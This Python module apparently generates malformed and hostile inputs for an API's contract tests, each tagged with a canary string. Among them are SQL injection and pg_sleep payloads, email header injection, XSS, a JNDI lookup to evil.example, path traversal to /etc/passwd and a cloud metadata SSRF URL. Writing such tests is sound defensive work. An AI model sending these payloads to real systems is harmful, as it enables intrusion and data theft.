"""What goes into fields, and what into headers, queries and paths; nearly all of it carries the canary."""

import json
from collections.abc import Iterator
from itertools import chain

from tests.contract import bad_values
from tests.contract.bad_headers import MALFORMED

# Nobody but this program writes these two: where they are in a log, a request got there.
CANARY = "canary4c1e"
CANARY_EMAIL = f"{CANARY}@{CANARY}.example.com"

CONTROLS = [chr(number) for number in chain(range(0x20), range(0x7F, 0xA0))]
# Invisible, reordering, growing under NFKC, changing under case, or no character at all.
ODD = [
    *"\u00ad\u034f\u061c\u115f\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202e\u2060\u2066\u2069\u206f",
    *"\u3000\u00a0\ufeff\ufff9\ufffd\ufffe\uffff\ufe0f\ue000\U000e0041\U000e01ef\U0010ffff\U0001d4d0",
    *"\ufb00\ufb03\ufdfa\ufdfb\u3300\u0149\u0130\u0131\u017f\u212a\u00df\u1e9e\u0345\u03c2\u0301\u0e33\u0d4a\u0344",
    *"\uff20\uff0e\u3002\u2024\uff07\uff1c\u2044\u0430\u03bf\u0660\u00b2\uac00",
    *("\u1100\u1161\u11a8", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e9\U0001f1ea"),
]
# Around a character: alone, in a name, in both halves of an address.
AROUND = ("{}", "{}" * 8, CANARY + "{}", CANARY + "{}@example.com", f"{CANARY}@ex" + "{}mple.com")

INJECTIONS = [
    *bad_values.SQL.values(),
    *bad_values.SQL_EMAILS.values(),
    *"'\"\\`;%_?",
    *("--", "/*", "*/", "$1", "%s", "%(email)s", "{0}", ":email", "\\0", "*)(uid=*", "|id", "$(id)"),
    *("E'\\x27'", "U&'\\0027'", "'||pg_sleep(5)--", "');SELECT pg_sleep(5);--", "$a$||pg_sleep(5)||$a$"),
    *("\r\nBcc: mallory@example.com", "\nX-Injected: 1", "\r\n\r\n<h1>", "%0d%0aX-Injected:%201"),
    *("\u560d\u560aX-Injected: 1", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}"),
    *("../../etc/passwd", "file:///etc/passwd", "http://169.254.169.254/", "<%= 7*7 %>", "`id`", "\x1b[2J"),
    *("true", "null", "NaN", "0", "-1", "[]", "{}", "undefined", "None", "__proto__", "constructor", "toString"),
]
EMAILS = [
    *("@", "a@", "@b", "a@b", "a@b.", "a@.b", "a@@b.c", "a@b@c.d", ".a@b.cd", "a.@b.cd", "a..b@c.de", "a!b@c.de"),
    *("a@-b.de", "a@b-.de", "a@b_c.de", "a@[127.0.0.1]", "a@[IPv6:::1]", "a@127.0.0.1", "a@localhost"),
    *("a@xn--a.de", "a@xn--.de", "a@xn--zzzzzz99999.de", "a@\xfc.de", "\xfc@a.de", "<a@b.de>", "a@b.de,c@d.de"),
    *(
        "a@b.de;c@d.de",
        "mailto:a@b.de",
        "a(c)@b.de",
        "a@b.de(c)",
        "a@b.test",
        "a@b.invalid",
        "a@b.onion",
        "a@b.c0",
    ),
    *('"a@b"@c.de', '"\\""@c.de'),
    *('"a b"@c.de', "a b@c.de", "A <a@b.de>", "a@b.de c@d.de", "a@b.de\n", "\ta@b.de", " a@b.de ", "a@b.de\0"),
    *("a@" + "b" * 64 + ".de", "a" * 65 + "@b.de", "a@" + ".".join(["b" * 60] * 5) + ".de"),
    *(f"{CANARY}+tag@example.com", f"{CANARY}.{CANARY}@EXAMPLE.com", f"{CANARY}'--@example.com", CANARY_EMAIL),
]
TOKENS = [
    *(header.removeprefix("Bearer ") for header in MALFORMED if header.isascii()),
    *("eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.", "eyJhbGciOiJIUzI1NiJ9.e30." + CANARY, f"{CANARY}.{CANARY}.{CANARY}"),
    *("00000000", "12345678", "1234 5678", "\uff11\uff12\uff13\uff14\uff15\uff16\uff17\uff18", "-1234567", "1e7"),
    *("0" * 64, "f" * 64, "A" * 43, "_" * 43, "A" * 43 + "=", "00000000-0000-4000-8000-000000000000"),
]
LENGTHS = [one * length for one in ("a", "\xe9", "\U0001f511") for length in (1, 7, 64, 73, 257, 1_024)]
LONG = [CANARY + "x" * length for length in (1_014, 1_015, 4_000, 15_000, 16_384, 40_000)]

# As JSON texts: no Python value says all of these.
NUMBERS = [
    *("-0", "0.0", "1e308", "-1e308", "1E+400", "1e-400", "5e-324", "9" * 3_999, "9" * 4_000, "9" * 15_000),
    *(str(sign * 2**bits + more) for bits in (31, 32, 53, 63, 64) for sign in (1, -1) for more in (-1, 0, 1)),
]
DEPTHS = (2, 30, 31, 32, 33, 900, 2_500)
NESTED = [
    *("[" * depth + "]" * depth for depth in DEPTHS),
    *('{"a":' * depth + "1" + "}" * depth for depth in DEPTHS),
]
CONFUSIONS = [
    f'["{CANARY}"]',
    f'{{"{CANARY}":"{CANARY}"}}',
    f'["{CANARY_EMAIL}","mallory@example.com"]',
    f'{{"$gt":"{CANARY}"}}',
    f'{{"toString":"{CANARY}","length":1}}',
    "[" + ",".join(["0"] * 3_000) + "]",
    f'"{CANARY}\\ud800"',
    f'"\\udc00{CANARY}"',
    f'"\\ud83d\\ud83d{CANARY}"',
    f'"{CANARY}\\u0000{CANARY}"',
]


def texts() -> list[str]:
    """Each once."""
    odd = [around.replace("{}", character) for character in ODD for around in AROUND]
    controls = [f"{CANARY}{control}{CANARY}" for control in CONTROLS]
    marked = [f"{CANARY} {text}" for text in INJECTIONS]
    return list(dict.fromkeys([*odd, *controls, *INJECTIONS, *marked, *EMAILS, *TOKENS, *LENGTHS, *LONG, ""]))


def json_values() -> list[str]:
    """What a field may be given."""
    shared = chain.from_iterable(
        table.values() for table in (bad_values.WRONG_TYPES, bad_values.UNWRITABLE, bad_values.STRANGE)
    )
    written = (json.dumps(text) for text in texts())
    # Not all in ASCII: UTF-8 is read too.
    raw = (json.dumps(text, ensure_ascii=False) for text in texts() if not text.isascii() and _is_utf8(text))
    return list(dict.fromkeys([*shared, *NUMBERS, *NESTED, *CONFUSIONS, *written, *raw]))


def header_values() -> Iterator[bytes]:
    """What HTTP can carry in a header: no line end, no NUL."""
    for text in [*INJECTIONS, *TOKENS, *ODD, "x" * 4_000, ",".join([CANARY] * 500), CANARY_EMAIL, "", " ", "\t"]:
        value = f"{CANARY} {text}".encode() if len(text) > 1 else text.encode()
        if not any(byte < 0x20 and byte != 0x09 for byte in value):
            yield value
    yield from (bytes([byte]) * 4 for byte in (0x7F, 0x80, 0xA0, 0xC0, 0xED, 0xFF))


def _is_utf8(text: str) -> bool:
    return not any("\ud800" <= character <= "\udfff" for character in text)
